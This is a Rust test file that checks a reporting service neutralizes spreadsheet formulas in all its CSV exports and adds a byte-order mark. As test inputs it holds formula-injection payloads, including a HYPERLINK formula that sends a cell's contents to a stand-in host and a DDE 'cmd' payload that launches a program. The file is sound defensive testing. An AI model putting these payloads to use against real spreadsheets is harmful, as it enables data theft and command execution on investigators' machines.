//! P10: every CSV the service writes begins with a UTF-8 byte-order mark and neutralizes
//! cells that a spreadsheet would evaluate. The adversary is an anonymous reporter (or an
//! admin's typo) whose text ends up in a spreadsheet on an investigator's PC; each file is
//! opened with a real CSV parser, as a spreadsheet would.

use crate::helpers::{
    spawn_app, TestApp, ADMIN, ADMIN_PASSWORD, INVESTIGATOR, INVESTIGATOR_PASSWORD,
};

const BOM: &str = "\u{feff}";

/// Department, township and account as three reporters type them.
const TYPED: [[&str; 3]; 3] = [
    [
        "=HYPERLINK(\"https://x.example/?\"&A2,\"详情\")",
        "+1城关镇",
        "-2+3 要求每天报数",
    ],
    ["@SUM(A1:A9)", "＝1+1", "＝cmd|' /C calc'!A0 要求盖章"],
    ["－县局", "＠乡", "@全体 每天打卡"],
];

fn formula_start(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'])
}

/// Parses a CSV as a spreadsheet would read it: the BOM must come first; no cell may start
/// like a formula.
fn open_csv(what: &str, text: &str) -> Vec<Vec<String>> {
    assert!(
        text.starts_with(BOM),
        "{what} does not begin with the BOM: {text:?}"
    );
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect();
    assert!(!rows.is_empty(), "{what} is empty");
    for row in &rows {
        for cell in row {
            assert!(!formula_start(cell), "{what}: {cell:?} would be evaluated");
        }
    }
    rows
}

fn neutralized(typed: &str) -> String {
    format!("'{typed}")
}

fn file_reports(app: &TestApp) {
    let cards = app.issue_cards(TYPED.len() as u32);
    for (card, [department, township, body]) in cards.iter().zip(TYPED) {
        let mut fields = crate::helpers::report_fields(card, body);
        fields.retain(|(k, _)| !matches!(*k, "department" | "township"));
        fields.extend([
            ("department", department),
            ("township", township),
            ("confirm", "1"),
        ]);
        let r = app.post_form("/report", &fields);
        assert_eq!(r.status, 303, "{}", r.body);
    }
    app.wait_released(TYPED.len());
}

#[test]
fn what_reporters_type_arrives_neutralized_in_the_export_and_every_statistics_csv() {
    let app = spawn_app();
    app.add_staff();
    file_reports(&app);

    // `jianfu reports export --format csv`
    let export = app.cli_ok(
        &[
            "reports",
            "export",
            "--username",
            INVESTIGATOR,
            "--password-stdin",
            "--format",
            "csv",
        ],
        &format!("{INVESTIGATOR_PASSWORD}\n"),
    );
    let rows = open_csv("the export", &export);
    assert_eq!(rows[0][3..=4], ["department", "township"]);
    assert_eq!(rows[0][7], "body");
    assert_eq!(rows.len(), 1 + TYPED.len());
    for [department, township, body] in TYPED {
        let row = rows
            .iter()
            .find(|r| r[3] == neutralized(department))
            .unwrap_or_else(|| panic!("no row for {department:?}: {rows:?}"));
        assert_eq!(row[4], neutralized(township));
        assert_eq!(row[7], neutralized(body));
    }
    // The JSON export is not for spreadsheets: the text as typed.
    let json = app.export();
    assert!(json.iter().any(|r| r["department"] == TYPED[0][0]));

    // `/staff/stats/*.csv`
    let desk = app.login(INVESTIGATOR, INVESTIGATOR_PASSWORD);
    for slug in [
        "month",
        "week",
        "category",
        "channel",
        "listed",
        "department",
        "township",
        "outcome",
    ] {
        let r = desk.get(&format!("/staff/stats/{slug}.csv"));
        assert_eq!(r.status, 200, "{slug}");
        let rows = open_csv(slug, &r.body);
        match slug {
            "department" | "township" => {
                let column = usize::from(slug == "township");
                for typed in TYPED {
                    let label = neutralized(typed[column]);
                    assert!(
                        rows.iter().any(|r| r[0] == label && r[1] == "1"),
                        "{slug}: no row for {label:?}: {rows:?}"
                    );
                }
            }
            _ => {}
        }
    }
}

#[test]
fn the_audit_log_lists_and_card_batches_begin_with_the_bom_and_are_neutralized() {
    let app = spawn_app();
    app.add_staff();
    let admin = app.login(ADMIN, ADMIN_PASSWORD);

    // `/staff/lists/{kind}.csv`: an admin's names that look like formulas, neutralized in
    // the file; importing the file again (after editing it in a spreadsheet) keeps them.
    let names = ["=1+1", "-县局", "@某局", "＝县委", "+86局", "县民政局"];
    let import = format!("name\n{}\n", names.join("\n"));
    let r = admin.post_csrf("/staff/lists/departments", &[("csv", &import)]);
    assert_eq!(r.status, 303, "{}", r.body);
    let exported = admin.get("/staff/lists/departments.csv").body;
    let rows = open_csv("the departments list", &exported);
    let cells: Vec<&str> = rows.iter().map(|r| r[0].as_str()).collect();
    assert_eq!(
        cells,
        [
            "name",
            "'=1+1",
            "'-县局",
            "'@某局",
            "'＝县委",
            "'+86局",
            "县民政局"
        ]
    );
    let r = admin.post_csrf("/staff/lists/departments", &[("csv", &exported)]);
    assert_eq!(r.status, 303, "{}", r.body);
    assert_eq!(admin.get("/staff/lists/departments.csv").body, exported);
    assert!(app.get("/").body.contains("<option value=\"=1+1\">"));
    for slug in ["townships", "admission", "certificates"] {
        let r = admin.get(&format!("/staff/lists/{slug}.csv"));
        open_csv(slug, &r.body);
    }

    // `/staff/audit.csv`. Nothing typed reaches the audit log today (P8); should a later
    // action put typed text there, the writer still neutralizes it. The row is added the way
    // only the database allows (the log is append-only, not closed to inserts).
    let conn = rusqlite::Connection::open(app.data_dir().join("jianfu.db")).unwrap();
    conn.execute(
        "INSERT INTO audit (at, actor, action, object) VALUES ('2026-01-01 00:00:00', 'cli', 'test', '=1+1')",
        [],
    )
    .unwrap();
    let r = admin.get("/staff/audit.csv");
    let rows = open_csv("the audit log", &r.body);
    assert_eq!(rows[0], ["at", "actor", "action", "object"]);
    assert!(rows.iter().any(|r| r[3] == "'=1+1"));

    // Card batches: `jianfu tokens issue --format csv` and the console's download.
    let out = app.dir.path().join("cards.csv");
    app.cli_ok(
        &[
            "tokens",
            "issue",
            "--count",
            "2",
            "--label",
            "=cmd|' /C calc'!A0",
            "--format",
            "csv",
            "--out",
            out.to_str().unwrap(),
        ],
        "",
    );
    let rows = open_csv(
        "the CLI card batch",
        &std::fs::read_to_string(&out).unwrap(),
    );
    assert_eq!(rows.len(), 3);
    assert!(rows[1..].iter().all(|r| r[1] == "'=cmd|' /C calc'!A0"));
    let r = admin.post_csrf(
        "/staff/batches",
        &[("count", "2"), ("label", "@标签"), ("format", "csv")],
    );
    assert_eq!(r.status, 200, "{}", r.body);
    let rows = open_csv("the console's card batch", &r.body);
    assert_eq!(rows.len(), 3);
    assert!(rows[1..].iter().all(|r| r[1] == "'@标签"));
}
